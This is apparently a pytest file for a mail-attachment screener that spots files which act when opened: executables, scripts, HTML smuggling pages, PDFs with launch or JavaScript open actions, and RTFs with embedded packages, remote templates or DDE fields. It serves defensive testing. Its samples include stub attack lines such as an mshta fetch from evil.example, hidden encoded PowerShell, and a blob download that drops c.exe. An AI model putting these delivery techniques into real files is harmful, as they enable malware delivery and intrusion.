"""Files that act when they are opened, told by what they are and not by what they are called."""

from __future__ import annotations

import zlib
from datetime import date

import pytest

from config.kind_loading import load_kinds
from handlers.context import Context
from handlers.document import DANGERS
from handlers.judging.active_content import DANGEROUS_ENDINGS, find_active_content, screen_task
from handlers.judging.arrival import JudgingRequest
from handlers.judging.judging import judge_document
from intake.message.compound import COMPOUND_MAGIC
from intake.message.file_type import sniff_format
from tests import builders as build
from tests.builders_workbook import workbook_file
from tests.each_case import each_case

KINDS = load_kinds()
TODAY = date(2010, 4, 1)
SMUGGLED = (
    "<html><script>var b=atob('TVqQAAMAAAAEAAAA');var a=document.createElement('a');"
    "a.href=URL.createObjectURL(new Blob([b]));a.download='c.exe';a.click();</script></html>"
)


def found(data: bytes, ending: str = "") -> tuple[str, ...]:
    said = find_active_content(data, sniff_format(data), ending)
    assert set(said) <= set(DANGERS)
    return said


# Programs, shortcuts, images: by what they are

BINARIES = [
    (b"MZ\x90\0" + b"\0" * 900, "program"),
    (b"\x7fELF\x02\x01\x01" + b"\0" * 900, "program"),
    (b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 50, "program"),
    (b"ITSF\x03\0\0\0" + b"\0" * 50, "program"),
    (b"L\0\0\0\x01\x14\x02\0" + b"\0" * 68, "shortcut"),
    (b"\0" * 0x8001 + b"CD001\x01" + b"\0" * 2000, "disk-image"),
    (b"vhdxfile" + b"\0" * 500, "disk-image"),
    (b"\xeb\x3c\x90MSDOS5.0" + b"\0" * 499 + b"\x55\xaa" + b"\0" * 512, "disk-image"),
]


@each_case(("data", "word"), BINARIES)
@each_case("ending", ["", "docx", "pdf", "txt", "exe"])
def test_what_runs_is_told_by_how_it_begins(data: bytes, word: str, ending: str) -> None:
    assert found(data, ending) == (word,)


@pytest.mark.parametrize(("data", "word"), BINARIES)
def test_it_is_held_and_its_kind_is_told(data: bytes, word: str) -> None:
    (said,) = judge_document(data, JudgingRequest(Context(TODAY), "docx"), KINDS)
    assert said.verdict == "hold"
    assert DANGERS[word] in said.findings[0].message


# Scripts: by what they say, or by the ending where that is all there is

SCRIPTS = [
    'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");',
    'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"',
    'Set x = CreateObject( "Scripting.FileSystemObject" )',
    "@echo off\r\nstart calc",
    "\r\n  @ECHO OFF\r\nstart calc",
    "powershell -nop -w hidden -enc SQBFAFgA",
    "#!/bin/sh\nrm x",
    "<HTA:APPLICATION id=x><script>x()</script>",
    "<html><script language='VBScript'>MsgBox 1</script></html>",
    "[InternetShortcut]\r\nURL=file://server/share/x.exe",
    "Invoke-Expression (New-Object Net.WebClient)",
    "mshta https://evil.example/x.hta",
]


@each_case("text", SCRIPTS)
@each_case("codec", ["utf-8", "utf-8-sig", "utf-16"])
def test_a_script_is_told_by_its_words_whatever_it_is_called(text: str, codec: str) -> None:
    assert found(text.encode(codec), "txt") == ("script",)


@each_case("ending", sorted(DANGEROUS_ENDINGS))
def test_plain_text_with_such_an_ending_is_one_too(ending: str) -> None:
    assert found(b"x = 1\r\ny = 2\r\n", ending) == (DANGEROUS_ENDINGS[ending],)


@each_case("ending", ["", "txt", "docx", "csv", "htm", "md", "log", "doc"])
@each_case(
    "text",
    [
        "Dear all,\r\nPlease see our chronology for N12.\r\n",
        "Date,Time,Event\r\n01/02/2009,10:00,Seen\r\n",
        "The officer said the script was read out. Run, he said, and echo off it went.",
        "<html><body><p>Our report.</p><a href='https://meadowlane.example/x'>page</a></body></html>",
        "<html><head><script>var _gaq = [];</script></head><body>Page</body></html>",
    ],
)
def test_ordinary_text_and_pages_are_not(text: str, ending: str) -> None:
    assert found(text.encode(), ending) == ()


# Pages that make a file

PAGES = [
    SMUGGLED,
    SMUGGLED.upper(),
    '<html><body onload="go()"><script>function go(){var u=new Uint8Array(9);'
    "window.navigator.msSaveOrOpenBlob(new Blob([u]),'x.zip')}</script></body></html>",
    "<html><script>document.write(unescape('%3Cform%3E'))</script></html>",
    "<html><script>eval(atob('YWxlcnQoMSk='))</script></html>",
    "<html><a href='data:application/octet-stream;base64,TVqQ' download='x.exe'>Open</a></html>",
    "<html><script>let s=String.fromCharCode(60);document.body.innerHTML = s</script></html>",
]


@each_case("page", PAGES)
@each_case("codec", ["utf-8", "utf-16"])
def test_a_page_that_makes_a_file_of_its_own_is_held(page: str, codec: str) -> None:
    assert found(page.encode(codec), "html") == ("page-makes-a-file",)


# PDFs


def pdf(*objects: bytes, catalog: bytes = b"") -> bytes:
    own = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>\nendobj\n"
    pages = b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
    return b"%PDF-1.5\n" + own + pages + b"\n".join(objects) + b"\n%%EOF\n"


def packed(number: int, body: bytes) -> bytes:
    """An object in a stream of objects."""
    index = b"%d 0 " % number
    content = zlib.compress(index + body)
    head = b"9 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\n"
    return head % (len(index), len(content)) + b"stream\r\n" + content + b"\nendstream\nendobj"


LAUNCH = b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ACTING = [
    (pdf(catalog=b"/OpenAction " + LAUNCH), "starts-a-program"),
    (pdf(b"7 0 obj\n" + LAUNCH + b"\nendobj", catalog=b"/OpenAction 7 0 R"), "starts-a-program"),
    (pdf(packed(7, LAUNCH), catalog=b"/OpenAction 7 0 R"), "starts-a-program"),
    (pdf(catalog=b"/OpenAction " + LAUNCH.replace(b"Launch", b"L#61unch")), "starts-a-program"),
    (pdf(catalog=b"/OpenAction " + SCRIPT), "script-on-opening"),
    (pdf(catalog=b"/OpenAction" + SCRIPT.replace(b" ", b"")), "script-on-opening"),
    (pdf(b"7 0 obj\n" + SCRIPT + b"\nendobj", catalog=b"/OpenAction 7 0 R"), "script-on-opening"),
    (pdf(packed(7, SCRIPT), catalog=b"/OpenAction 7 0 R"), "script-on-opening"),
    (pdf(catalog=b"/AA << /O " + SCRIPT + b" >>"), "script-on-opening"),
    (pdf(b"7 0 obj\n" + SCRIPT + b"\nendobj", catalog=b"/AA << /WC 7 0 R >>"), "script-on-opening"),
    (pdf(b"3 0 obj\n<< /Type /Page /AA << /O " + SCRIPT + b" >> >>\nendobj"), "script-on-opening"),
    (pdf(b"7 0 obj\n<< /S /GoTo /D [3 0 R /Fit] /Next 8 0 R >>\nendobj",
         b"8 0 obj\n" + SCRIPT + b"\nendobj", catalog=b"/OpenAction 7 0 R"),
     "script-on-opening"),
]  # fmt: skip


@each_case(("data", "word"), ACTING)
def test_a_pdf_that_acts_on_opening_is_held(data: bytes, word: str) -> None:
    assert found(data, "pdf") == (word,)
    (said,) = judge_document(data, JudgingRequest(Context(TODAY), "pdf"), KINDS)
    assert said.verdict == "hold"


@pytest.mark.parametrize(
    "data",
    [
        pdf(catalog=b"/OpenAction [3 0 R /XYZ null null 0]"),
        pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
        pdf(b"7 0 obj\n<< /FT /Tx /AA << /K " + SCRIPT + b" >> >>\nendobj"),
        pdf(b"7 0 obj\n" + SCRIPT + b"\nendobj",
            catalog=b"/Names << /JavaScript << /Names [(AFDate) 7 0 R] >> >>"),
        pdf(b"7 0 obj\n<< /Length 40 >>\nstream\n(/S /Launch is what we talked about)\nendstream\n"
            b"endobj"),
        b"%PDF-1.4\n7 0 obj << /OpenAction 7 0 R >> endobj",
    ],
)  # fmt: skip
def test_a_form_with_scripts_in_its_fields_is_not(data: bytes) -> None:
    assert found(data, "pdf") == ()


# Rich text


def rtf(inside: bytes) -> bytes:
    return b"{\\rtf1\\ansi Some words.\\par " + inside + b"}"


def ole(name: bytes, native: bytes, format: int = 2) -> bytes:
    def counted(text: bytes) -> bytes:
        return len(text).to_bytes(4, "little") + text

    head = (0x0501).to_bytes(4, "little") + format.to_bytes(4, "little")
    return head + counted(name + b"\0") + counted(b"") + counted(b"") + counted(native)


def packer(name: bytes, content: bytes) -> bytes:
    path = b"C:\\x\\" + name + b"\0"
    third = len(path).to_bytes(4, "little") + path
    size = len(content).to_bytes(4, "little")
    return b"\2\0" + name + b"\0" + path + b"\0\0\3\0" + third + size + content


def object_of(data: bytes, *, spoiled: bool = False) -> bytes:
    digits = data.hex().encode()
    if spoiled:  # as it is written to hide
        digits = b"\r\n".join(digits[n : n + 7] + b"\\bin0 \t" for n in range(0, len(digits), 7))
    return b"{\\object\\objemb{\\*\\objclass X}{\\*\\objdata " + digits + b"}{\\result x}}"


PROGRAM = ole(b"Package", packer(b"notes.exe", b"MZ\x90\0\0"))
RTFS = [
    (object_of(PROGRAM), ("packed-file", "packed-program")),
    (object_of(PROGRAM, spoiled=True), ("packed-file", "packed-program")),
    (object_of(ole(b"package", packer(b"leaflet.pdf", b"%PDF-1.4"))),
     ("packed-file", "packed-pdf")),
    (object_of(ole(b"Package", packer(b"a.js", b"x=1"))), ("packed-file", "packed-script")),
    (object_of(ole(b"Equation.3", b"\x1c\0\0\0garbage")), ("embedded-object",)),
    (object_of(ole(b"Word.Document.8", COMPOUND_MAGIC + b"\0" * 600)), ("embedded-object",)),
    (object_of(ole(b"Excel.Sheet.8", b"", format=1)), ("linked-object",)),
    (b"{\\object{\\*\\objdata zz}}", ("embedded-object",)),
    (b"{\\object\\objautlink{\\*\\objclass Word.Document.8}}", ("linked-object",)),
    (b"{\\object\\objocx{\\*\\objclass Forms.TextBox}}", ("active-control",)),
    (b"{\\*\\template https://evil.example/x.dotm}", ("remote-template",)),
    (b"{\\*\\template \\\\\\\\mlsrv01\\\\templates\\\\x.dotm}", ("remote-template",)),
    (b"{\\*\\template \\'5c\\'5cmlsrv01\\\\x.dotm}", ("remote-template",)),
    (b"{\\field{\\*\\fldinst{ DDEAUTO cmd \"/c calc\" }}{\\fldrslt x}}", ("dde-field",)),
]  # fmt: skip


@each_case(("inside", "words"), RTFS)
def test_rich_text_is_looked_at_before_it_is_converted(
    inside: bytes, words: tuple[str, ...]
) -> None:
    """Failure mode 50: a conversion drops what the file that is kept still has."""
    assert found(rtf(inside), "rtf") == words
    assert screen_task(rtf(inside), "rtf", None) == list(words)


@pytest.mark.parametrize(
    "inside",
    [
        b"",
        b"{\\*\\template C:\\\\Users\\\\a\\\\Normal.dotm}",
        b"{\\*\\template Normal.dotm}",
        b"{\\object\\objemb{\\*\\objdata " + ole(b"PBrush", b"BM000").hex().encode() + b"}}",
        object_of(ole(b"Excel.Sheet.12", workbook_file([("a", "b")]))),
        b"{\\field{\\*\\fldinst{ PAGE }}{\\fldrslt 1}} We spoke of DDE and object data.",
    ],
)
def test_ordinary_rich_text_is_not_held(inside: bytes) -> None:
    assert found(rtf(inside), "rtf") == ()


# What is good stays good


@pytest.mark.parametrize(
    "data", [build.make_imr(), build.make_qa_form(), build.make_chronology(build.STORIES["GP"])]
)
def test_returns_are_not_held(data: bytes) -> None:
    assert found(data, "docx") == ()
